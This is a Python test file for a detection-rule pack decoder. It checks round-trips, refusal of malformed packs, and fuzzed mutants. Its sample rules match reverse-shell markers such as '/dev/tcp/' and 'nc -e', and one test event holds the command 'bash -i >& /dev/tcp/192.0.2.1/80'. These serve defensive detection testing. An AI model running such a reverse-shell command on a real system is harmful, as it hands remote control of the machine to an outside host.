"""Packs of detections: what is written comes back; whatever else comes is refused, or is a pack that runs."""

import json
import random
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.detect.sigma_cases import EVERY, asked, event_of, random_condition, random_event, random_rules, rule_of

from ringfence.detect.sigma.matcher import Matcher
from ringfence.detect.sigma.naive import matches_of
from ringfence.model.detection import AllOf, Condition, Detections, EventTest, NotOf, predicates
from ringfence.model.errors import ContentRefused
from ringfence.model.limits import DETECTION_RULE_DEPTH_MAX, DETECTION_RULE_NODES_MAX
from ringfence.wire import canonical
from ringfence.wire.canonical import JsonValue
from ringfence.wire.detection_ir import condition_value, decode_detections, encode_detections, read_condition

FILE: Final = "detections/linux.json"
MUTANTS: Final = 6_000
UUID: Final = "00000000-0000-0000-0000-000000000000"
RULE: Final[dict[str, Any]] = {
    "id": UUID,
    "title": "t",
    "author": "a",
    "licence": "l",
    "level": "low",
    "techniques": [],
    "reference": "",
    "event_type": "process_creation",
    "condition": ["any", "x"],
}
TEST: Final[dict[str, Any]] = {"rule": UUID, "event": {"x": "1"}, "expects_match": True}


def pack_bytes(*rules: dict[str, Any], tests: tuple[dict[str, Any], ...] = (), **top: JsonValue) -> bytes:
    return canonical.encode({"format": 1, "rules": list(rules), "tests": list(tests), **top})


def with_condition(condition: JsonValue) -> bytes:
    return pack_bytes(RULE | {"condition": condition})


def nested(depth: int) -> JsonValue:
    value: JsonValue = ["any", "x"]
    for _ in range(depth - 1):
        value = ["not", value]
    return value


def random_pack(chance: random.Random) -> Detections:
    rules = tuple(random_rules(chance, chance.randint(0, 6), EVERY))
    tests = {}
    for rule in rules:
        for _ in range(chance.randint(0, 2)):
            event = tuple(random_event(chance).fields.items())
            tests[rule.identifier, event] = EventTest(rule.identifier, event, chance.random() < 0.5)
    return Detections(rules, tuple(tests[key] for key in sorted(tests)))


@given(st.integers(0, 2**64))
def test_a_pack_comes_back_as_it_was(seed: int) -> None:
    pack = random_pack(random.Random(seed))
    data = encode_detections(pack)
    assert decode_detections(data, FILE) == pack
    assert encode_detections(decode_detections(data, FILE)) == data


@given(st.integers(0, 2**64))
def test_a_condition_comes_back_as_it_was(seed: int) -> None:
    condition: Condition = random_condition(random.Random(seed), EVERY)
    assert read_condition(condition_value(condition), FILE, "/condition") == condition


REFUSED: Final[dict[str, tuple[bytes, str]]] = {
    "not UTF-8": (b"\xff\xfe[", "UTF-8"),
    "no object": (b"[]", "must be an object"),
    "another format": (pack_bytes(format=2), "integer from 1 to 1"),
    "an unknown field": (pack_bytes(RULE | {"action": "block"}), "unknown field"),
    "no author": (pack_bytes({key: value for key, value in RULE.items() if key != "author"}), "lacks the field"),
    "an empty author": (pack_bytes(RULE | {"author": ""}), "must not be empty"),
    "a control character in the title": (pack_bytes(RULE | {"title": "a\x1b[2J"}), "control character"),
    "a level of its own": (pack_bytes(RULE | {"level": "urgent"}), "must be one of"),
    "an identifier in capitals": (pack_bytes(RULE | {"id": UUID.replace("0", "A")}), "must fit"),
    "a duplicate identifier": (pack_bytes(RULE, RULE), "without repetition"),
    "rules out of order": (pack_bytes(RULE | {"id": UUID.replace("0", "f")}, RULE), "sorted"),
    "techniques out of order": (pack_bytes(RULE | {"techniques": ["T1059", "T1005"]}), "sorted"),
    "a technique that is none": (pack_bytes(RULE | {"techniques": ["T1"]}), "may hold only"),
    "an event type with a space": (pack_bytes(RULE | {"event_type": "linux x"}), "must fit"),
    "a duplicate key": (pack_bytes(RULE).replace(b'"author":"a"', b'"author":"a","author":"b"'), "repeats the key"),
    "NaN": (pack_bytes(RULE).replace(b'["any","x"]', b'["gte","x",NaN]'), "not an integer"),
    "a float": (pack_bytes(RULE).replace(b'["any","x"]', b'["gte","x",5.5]'), "not an integer"),
    "a number without quotes": (with_condition(["gte", "x", 5]), "must be text"),
    "an exponent": (with_condition(["gte", "x", "1e999"]), "not a decimal number"),
    "a number too long": (with_condition(["gte", "x", "9" * 33]), "not a decimal number"),
    "a lone surrogate": (pack_bytes(RULE).replace(b'"any","x"', rb'"eq","x","\ud800"'), "canonical"),
    "a bottomless condition": (b'{"format":1,"rules":[{"condition":' + b'["not",' * 5_000, "nested deeper"),
    "one level too deep": (with_condition(nested(DETECTION_RULE_DEPTH_MAX + 1)), "nested deeper than 24"),
    "too many nodes": (with_condition(["or", *[["any", "x"]] * (DETECTION_RULE_NODES_MAX + 1)]), "more than 20000"),
    "too many values": (
        with_condition(["eq", "x", *sorted(str(number) for number in range(DETECTION_RULE_NODES_MAX + 1))]),
        "more than 20000",
    ),
    "no operator": (with_condition([]), "begins with an operator"),
    "an unknown operator": (with_condition(["sounds", "x", "y"]), "unknown operator"),
    "an operator that has no case": (with_condition(["re:cased", "x", "y"]), "unknown operator"),
    "a text": (with_condition("and"), "must be a list"),
    "an or of one": (with_condition(["or", ["any", "x"]]), "at least two"),
    "an empty and": (with_condition(["and"]), "at least two"),
    "a not of two": (with_condition(["not", ["any", "x"], ["any", "y"]]), "one part"),
    "no field": (with_condition(["any"]), "lacks its field"),
    "an empty field": (with_condition(["any", ""]), "no name"),
    "a field that is a number": (with_condition(["any", 5]), "no name"),
    "a keyword that is null": (with_condition(["null", None]), "needs a field"),
    "no values": (with_condition(["eq", "x"]), "wrong number of values"),
    "a value too many": (with_condition(["any", "x", "y"]), "wrong number of values"),
    "values out of order": (with_condition(["eq", "x", "b", "a"]), "sorted"),
    "a value in capitals": (with_condition(["eq", "x", "ABC"]), "must be folded"),
    "a final sigma": (with_condition(["eq", "x", "\u03c2"]), "must be folded"),
    "a value too long": (with_condition(["eq", "x", "a" * 4_097]), "4096 allowed"),
    "an expression too long": (with_condition(["re", "x", "a" * 2_049]), "2048 allowed"),
    "a back-reference": (with_condition(["re", "x", r"(a)\1"]), "invalid escape"),
    "look-ahead": (with_condition(["re", "x", "(?=a)"]), "invalid perl operator"),
    "an expression of 54,000 steps": (with_condition(["re", "x", "(.{1,900})" * 60]), "too large"),
    "a glob of 65 parts": (with_condition(["glob", "x", "*a" * 33]), "not 1 to 64"),
    "an empty glob": (with_condition(["glob", "x", ""]), "not 1 to 64"),
    "a glob with two stars": (with_condition(["glob", "x", "a**"]), "not behind a star"),
    "a glob that ends in a backslash": (with_condition(["glob", "x", "a\\"]), "backslash"),
    "a glob that escapes a letter": (with_condition(["glob", "x", "\\a"]), "backslash"),
    "a network with host bits": (with_condition(["cidr", "x", "10.0.0.1/8"]), "host bits"),
    "no network": (with_condition(["cidr", "x", "ten/8"]), "does not appear"),
    "a truth that is none": (with_condition(["exists", "x", "maybe"]), '"true" or "false"'),
    "a field reference to nothing": (with_condition(["fieldref", "x", ""]), "not the name of a field"),
    "a test of another rule": (pack_bytes(RULE, tests=(TEST | {"rule": UUID.replace("0", "1")},)), "not in the pack"),
    "a test twice": (pack_bytes(RULE, tests=(TEST, TEST)), "without repetition"),
    "a test that wants both": (pack_bytes(RULE, tests=(TEST, TEST | {"expects_match": False})), "repetition"),
    "an event that is a list": (pack_bytes(RULE, tests=(TEST | {"event": []},)), "must be an object"),
    "an event with a number": (pack_bytes(RULE, tests=(TEST | {"event": {"x": 1}},)), "must be text"),
    "an event of many fields": (
        pack_bytes(RULE, tests=(TEST | {"event": {f"f{number}": "" for number in range(129)}},)),
        "129 entries",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_off_is_refused_with_its_place(name: str) -> None:
    data, reason = REFUSED[name]
    with pytest.raises(ContentRefused, match=reason.replace("(", r"\(")) as caught:
        decode_detections(data, FILE)
    assert caught.value.file == FILE


def test_the_place_is_that_of_the_trouble() -> None:
    with pytest.raises(ContentRefused) as caught:
        decode_detections(with_condition(["and", ["any", "x"], ["not", ["eq", "x", "ok", "zz\u212a"]]]), FILE)
    assert caught.value.position == "/rules/0/condition/2/1/3"


def test_the_deepest_condition_is_read() -> None:
    pack = decode_detections(with_condition(nested(DETECTION_RULE_DEPTH_MAX)), FILE)
    assert matches_of(pack.rules, event_of(x="1")) == Matcher(pack.rules).matches(event_of(x="1")) == []
    assert matches_of(pack.rules, event_of(y="1")) == Matcher(pack.rules).matches(event_of(y="1")) == [0]


def _good_pack() -> Detections:
    conditions: list[Condition] = [
        AllOf((asked("Image", "ends", "/bash"), asked("CommandLine", "contains", "/dev/tcp/", "nc -e"))),
        AllOf((asked("CommandLine", "re", r"(?i)dev.tcp/[0-9.]{7,15}"), NotOf(asked("User", "null")))),
        asked("CommandLine", "glob", "*tcp?1*", "*tcp\\*"),
        asked("DestinationIp", "cidr", "10.0.0.0/8"),
        asked("Port", "gte", "80"),
        asked(None, "contains", "needle", cased=True),
    ]
    rules = tuple(rule_of(condition, number) for number, condition in enumerate(conditions))
    event = (("CommandLine", "bash -i >& /dev/tcp/192.0.2.1/80"), ("Image", "/bin/bash"), ("Port", "80"))
    return Detections(rules, (EventTest(rules[0].identifier, event, expects_match=True),))


def test_mutants_are_refused_or_run() -> None:
    """Damage to the bytes, and to the values in fresh canonical bytes: nothing but ContentRefused ever comes out."""
    good = encode_detections(_good_pack())
    event = event_of(CommandLine="bash -i >& /dev/tcp/192.0.2.1/80 needle", Image="/bin/bash", Port=80)
    accepted = refused = 0
    for seed in range(MUTANTS):
        chance = random.Random(seed)
        data = (_damaged_bytes if seed % 3 else _damaged_value)(chance, good)
        try:
            pack = decode_detections(data, FILE)
        except ContentRefused:
            refused += 1
            continue
        assert encode_detections(pack) == data
        assert Matcher(pack.rules).matches(event) == matches_of(pack.rules, event)
        accepted += 1
    assert refused > MUTANTS // 4
    assert accepted > MUTANTS // 50


def _damaged_bytes(chance: random.Random, good: bytes) -> bytes:
    data = bytearray(good)
    for _ in range(chance.choice((1, 1, 2, 4, 8))):
        at = chance.randrange(len(data))
        data[at] = chance.choice(b'[]{}",0129.-\\xz*\x00\xff') if chance.random() < 0.7 else chance.randrange(256)
    return bytes(data)


ODD_VALUES: Final[tuple[Any, ...]] = (
    None, True, -1, "", "*", "\\", "(", "a" * 5_000, "\x00", "\u212a", [], ["any", "x"], ["not", ["any", "y"]], {},
    "or", "re", "glob", "cidr", "eq:cased", "10.0.0.0/8",
)  # fmt: skip


def _damaged_value(chance: random.Random, good: bytes) -> bytes:
    value = json.loads(good)
    for _ in range(chance.choice((1, 1, 2))):
        place: Any = value["rules"]
        while isinstance(place, list | dict) and place:
            key = chance.choice(list(place)) if isinstance(place, dict) else chance.randrange(len(place))
            if not isinstance(place[key], list | dict) or chance.random() < 0.15:
                place[key] = chance.choice(ODD_VALUES)
                break
            place = place[key]
    return canonical.encode(value)


def test_the_predicates_of_a_condition_come_from_left_to_right() -> None:
    (first, *_) = _good_pack().rules
    assert [predicate.operator for predicate in predicates(first.condition)] == ["ends", "contains"]
